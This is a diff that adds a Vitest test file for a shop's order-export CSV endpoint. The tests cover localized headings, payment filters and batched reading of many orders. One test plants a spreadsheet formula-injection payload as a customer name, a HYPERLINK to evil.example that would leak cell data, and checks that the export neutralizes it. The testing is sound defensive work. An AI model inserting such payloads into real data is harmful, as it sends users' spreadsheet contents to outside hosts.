@@ -1,0 +1,75 @@
+import { parse } from 'csv-parse/sync'
+import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
+import { addCustomer, sessionsByCustomerId } from '../../../tests/support/api/customers.ts'
+import { openTestApi, type TestApi } from '../../../tests/support/api/open-api.ts'
+import { addOrder } from '../../../tests/support/api/orders.ts'
+import { addTestStaff, staffSession } from '../../../tests/support/api/staff.ts'
+import { addProduct } from '../../../tests/support/api/test-product.ts'
+import { exportOrders } from './export-orders.ts'
+
+let api: TestApi
+let headers: { cookie: string }
+beforeAll(async () => {
+  api = await openTestApi({ findSession: sessionsByCustomerId })
+  headers = await staffSession(api.database, (await addTestStaff(api.database, 'sales')).id)
+})
+afterAll(() => api.close())
+
+const download = async (query: string, language = 'th') => {
+  const answer = await api.call('GET', `/api/office/order-export?${query}`, {
+    headers: { ...headers, 'accept-language': language },
+  })
+  const text = String(answer.body)
+  return { text, rows: parse(text, { bom: true }) as string[][] }
+}
+
+describe('the export of orders', () => {
+  it('has a heading in the language of who asks, and the orders of the filter', async () => {
+    const customerId = await addCustomer(api.database)
+    const product = await addProduct(api.database)
+    await addOrder(api.database, { customerId, lines: [{ product }], payment: 'failed' })
+    const { text, rows } = await download('payment=failed')
+    expect(text.startsWith('\uFEFFเลขที่,')).toBe(true)
+    expect((await download('payment=failed', 'en')).rows[0]?.[0]).toBe('Order number')
+    expect(rows.at(1)?.slice(5, 12)).toEqual(['card', 'failed', 'pending', '2', '200.00', '50.00', '250.00'])
+    expect(new Set(rows.slice(1).map((row) => row[6]))).toEqual(new Set(['failed']))
+  })
+
+  it('lets no name become a formula', async () => {
+    const customerId = await addCustomer(api.database)
+    const evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    await api.database.pool.query(`update customers set first_name = $2, last_name = '' where id = $1`, [
+      customerId,
+      evil,
+    ])
+    const { orderNumber } = await addOrder(api.database, {
+      customerId,
+      lines: [{ product: await addProduct(api.database) }],
+    })
+    const { rows } = await download(`keyword=${orderNumber}`)
+    expect(rows[1]?.[2]?.trim()).toBe(`'${evil}`)
+  })
+
+  it('reads a part of many orders at a time, each order once, and no more than is taken', async () => {
+    const customerId = await addCustomer(api.database)
+    // A thousand of each second: the place within it counts.
+    await api.database.pool.query(
+      `insert into orders (id, order_number, customer_id, created_at, payment_channel, payment, fulfilment, goods_satang,
+         shipping_satang, total_satang, saved_satang, delivery_address, shipping_id, shipping_name_th, shipping_name_en)
+       select 'o-many-' || n, 'MANY-0-' || n, $1, timestamptz '2020-01-01' + n / 1000 * interval '1 second', 'card', 'paid',
+         'complete', 100, 0, 100, 0, '{}', 'p', 'x', 'x' from generate_series(1, 5500) n`,
+      [customerId],
+    )
+    const { rows } = await download('keyword=MANY-0')
+    expect(rows).toHaveLength(5_501)
+    expect(new Set(rows.map(([number]) => number)).size).toBe(5_501)
+
+    const select = vi.spyOn(api.database.db, 'select')
+    const stream = exportOrders(api.database.db, 'thai', { keyword: 'MANY-0' })
+    const chunks = stream[Symbol.asyncIterator]()
+    await chunks.next()
+    await chunks.next()
+    expect(select.mock.calls.length).toBeLessThan(5)
+    stream.destroy()
+  })
+})
